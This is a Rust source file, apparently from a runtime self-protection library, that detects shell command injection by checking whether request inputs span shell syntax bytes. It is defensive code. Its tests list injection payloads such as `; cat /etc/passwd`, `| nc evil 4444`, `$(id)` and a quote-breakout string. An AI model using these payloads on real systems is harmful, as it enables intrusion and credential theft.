//! Shell commands (command injection): a command line about to run under `sh -c` is checked
//! against the request's inputs, and the checked command.
//!
//! The command line is read once as `sh` reads it, marking every byte that acts as syntax:
//! command separators and operators (`;`, `&`, `|`, `&&`, `||`, newline), redirections (`<`,
//! `>`), grouping (`(`, `)`, `{`, `}` at a word's start), command substitution (`$(`, `` ` ``,
//! also inside double quotes, where it still runs), parameter expansion (`${`), a comment
//! (`#` at a word's start), and the quotes themselves (an input carrying a quote that closes the
//! app's quoting is out of it). An input occurring in the command is an injection when one of
//! those bytes falls inside it. Inside single quotes nothing is syntax but the closing quote;
//! after a backslash, the next byte is plain. An input inside the app's own quotes, such as
//! `a;b` in `echo 'a;b'`, passes. Splitting into several arguments (a space) is not flagged:
//! it does not run anything by itself.

use std::ops::Range;
use std::process::Command;

/// For each byte of `cmd`, whether it acts as shell syntax.
pub(crate) fn syntax(cmd: &str) -> Vec<bool> {
    let b = cmd.as_bytes();
    let mut marks = vec![false; b.len()];
    #[derive(PartialEq)]
    enum Q {
        None,
        Single,
        Double,
    }
    let mut q = Q::None;
    let mut word_start = true;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match q {
            Q::Single => {
                if c == b'\'' {
                    marks[i] = true;
                    q = Q::None;
                }
            }
            Q::Double => match c {
                b'\\' => i += 1, // escapes the next byte
                b'"' => {
                    marks[i] = true;
                    q = Q::None;
                }
                b'`' => marks[i] = true,
                b'$' if matches!(b.get(i + 1), Some(b'(' | b'{')) => {
                    marks[i] = true;
                    marks[i + 1] = true;
                }
                _ => {}
            },
            Q::None => {
                match c {
                    b'\\' => {
                        i += 2;
                        word_start = false;
                        continue;
                    }
                    b'\'' => {
                        marks[i] = true;
                        q = Q::Single;
                    }
                    b'"' => {
                        marks[i] = true;
                        q = Q::Double;
                    }
                    b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' | b'\n' | b'\r' | b'`' => {
                        marks[i] = true;
                    }
                    b'$' if matches!(b.get(i + 1), Some(b'(' | b'{')) => {
                        marks[i] = true;
                        marks[i + 1] = true;
                    }
                    b'#' | b'{' | b'}' if word_start => marks[i] = true,
                    _ => {}
                }
                word_start = matches!(c, b' ' | b'\t' | b';' | b'&' | b'|' | b'(' | b'\n');
            }
        }
        i += 1;
    }
    marks
}

/// The first input that spans shell syntax in `cmd`, and its range.
pub(crate) fn find<'a>(
    cmd: &str,
    inputs: impl IntoIterator<Item = &'a str>,
) -> Option<(usize, Range<usize>)> {
    let mut marks: Option<Vec<bool>> = None;
    for (i, input) in inputs.into_iter().enumerate() {
        if input.is_empty() {
            continue;
        }
        for s in memchr::memmem::find_iter(cmd.as_bytes(), input.as_bytes()) {
            let marks = marks.get_or_insert_with(|| syntax(cmd));
            let e = s + input.len();
            if marks[s..e].iter().any(|m| *m) {
                return Some((i, s..e));
            }
        }
    }
    None
}

/// `sh -c <command_line>` as a [`Command`], after [`super::check_command`]: run it with
/// `.output()`, `.status()` or `.spawn()` as usual.
pub fn sh(command_line: &str) -> Result<Command, super::RaspError> {
    super::check_command(command_line)?;
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg(command_line);
    Ok(cmd)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(cmd: &str, input: &str) -> bool {
        find(cmd, [input]).is_some()
    }

    #[test]
    fn inputs_spanning_shell_syntax_are_found() {
        for input in [
            "example.com; cat /etc/passwd",
            "example.com && id",
            "example.com || id",
            "example.com | nc evil 4444",
            "$(id)",
            "`id`",
            "x\nid",
            "x > /tmp/pwned",
            "${IFS}cat${IFS}/etc/passwd",
            "x & id",
        ] {
            assert!(hit(&format!("echo pinging {input}"), input), "{input:?}");
        }
        // breaking out of the app's quotes
        let input = "x'; id; echo '";
        assert!(hit(&format!("echo 'pinging {input}'"), input));
        // command substitution still runs inside double quotes
        assert!(hit("echo \"pinging $(id)\"", "$(id)"));
        assert!(hit("echo \"pinging `id`\"", "`id`"));
    }

    #[test]
    fn inputs_that_stay_words_or_inside_quotes_pass() {
        assert!(!hit("echo pinging example.com", "example.com"));
        assert!(
            !hit("echo 'pinging a;b|c'", "a;b|c"),
            "inside the app's single quotes"
        );
        assert!(!hit("echo \"pinging a;b\"", "a;b"));
        assert!(!hit("echo pinging a\\;b", "a\\;b"), "escaped");
        assert!(!hit("echo pinging 192.168.1.1", "192.168.1.1"));
        assert!(
            !hit("echo pinging a b", "a b"),
            "more arguments run nothing"
        );
        assert!(
            !hit("echo pinging x#y", "x#y"),
            "# inside a word is no comment"
        );
        // the app's own operators around an input are the app's
        assert!(!hit("echo a; echo example.com", "example.com"));
    }

    #[test]
    fn any_input_is_read_without_panicking() {
        for cmd in ["", "\\", "'", "\"", "$", "$(", "\"\\", "é'$(é"] {
            let marks = syntax(cmd);
            assert_eq!(marks.len(), cmd.len());
            let _ = find(cmd, [cmd, "é", "$"]);
        }
    }
}
